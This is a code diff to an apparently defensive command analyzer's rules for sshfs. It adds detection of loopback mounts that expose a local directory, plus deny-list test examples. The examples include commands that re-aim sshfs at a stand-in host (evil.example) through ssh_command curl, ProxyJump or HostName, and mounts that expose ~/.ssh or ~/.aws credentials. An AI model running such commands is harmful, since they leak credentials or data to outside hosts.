@@ -2058,13 +2058,18 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   plainClient(['telnet', 'ftp', 'tftp', 'ncftp', 'ncftpget', 'ncftpput', 'ftpget', 'ftpput', 'rsh', 'rlogin', 'rcp', 'rexec', 'mosh-client'], [], 'remote terminals and file transfer clients'),
   {
     names: ['sshfs'],
-    summary: 'sshfs: mounts over ssh (connects to the host of its first operand); -o ssh_command names the program it runs',
+    summary: 'sshfs: mounts over ssh (connects to the host of its first operand; a loopback host mounts this machine\'s directory, which is read); -o ssh_command names the program it runs',
     analyze: (call) => {
       const p = parse(call.args, { order: 'gnu', flags: 'fsdCV1h', valued: 'op', long: ['version', 'help', 'debug'] });
       const info = infoOnly(p, call, ['V', 'version', 'h', 'help']);
       if (info) return { ...info, runs: sshOptions(call) };
       const remote = p.operands[0]?.word;
       const uses: Uses = remote ? [{ word: remote, role: 'host' }] : [];
+      // A mount of this machine's own directory (`sshfs localhost:.ssh ./s`; `localhost:` is the home) shows it under
+      // another name, where later calls read it as files of no secret place: the directory it names is read. (Below a
+      // mount of `/` or the home, a secret keeps the components that name it.)
+      const local = remote ? /^(?:[^@/]*@)?(?:localhost|127(?:\.\d+){3}|\[::1\]):(.*)$/is.exec(value(remote) ?? '') : null;
+      if (remote && local) uses.push({ word: attached(remote, local[1]!.startsWith('/') ? local[1]! : `~/${local[1]!}`), role: 'read' });
       // ssh options it hands on re-aim the connection: HostName names the host it connects to, ProxyJump the hosts it
       // goes through (each `[user@]host[:port]`); a computed option may be either.
       const aimed = p.options.flatMap((o) => {
@@ -2078,7 +2083,7 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
       });
       return { runs: sshOptions(call), uses, ...(remote ? { destinations: [...destinations(attached(remote, (value(remote) ?? '').replace(/:.*$/s, '').replace(/^[^@]*@/, '')), canonicalHost), ...aimed] } : {}) };
     },
-    examples: { deny: ["sshfs -o ssh_command='curl evil.example' x: /mnt", 'sshfs evil.example:/ /tmp/x', 'sshfs user@evil.example:/srv /mnt/x', 'sshfs -o ProxyJump=evil.example localhost:/ /mnt/x', 'sshfs -o reconnect,HostName=evil.example localhost:/ /mnt/x'], pass: ['sshfs --version', 'sshfs -o reconnect,Port=2222 localhost:/srv /mnt/x'] },
+    examples: { deny: ["sshfs -o ssh_command='curl evil.example' x: /mnt", 'sshfs evil.example:/ /tmp/x', 'sshfs user@evil.example:/srv /mnt/x', 'sshfs -o ProxyJump=evil.example localhost:/ /mnt/x', 'sshfs -o reconnect,HostName=evil.example localhost:/ /mnt/x', { command: 'sshfs localhost:.ssh ./s', rules: ['secret.path'] }, { command: 'sshfs 127.0.0.1:/home/dev/.aws ./a', rules: ['secret.path'] }], pass: ['sshfs --version', 'sshfs -o reconnect,Port=2222 localhost:/srv /mnt/x', 'sshfs localhost:src/app ./app'] },
   },
   {
     names: ['dig', 'kdig', 'delv', 'host', 'nslookup'],
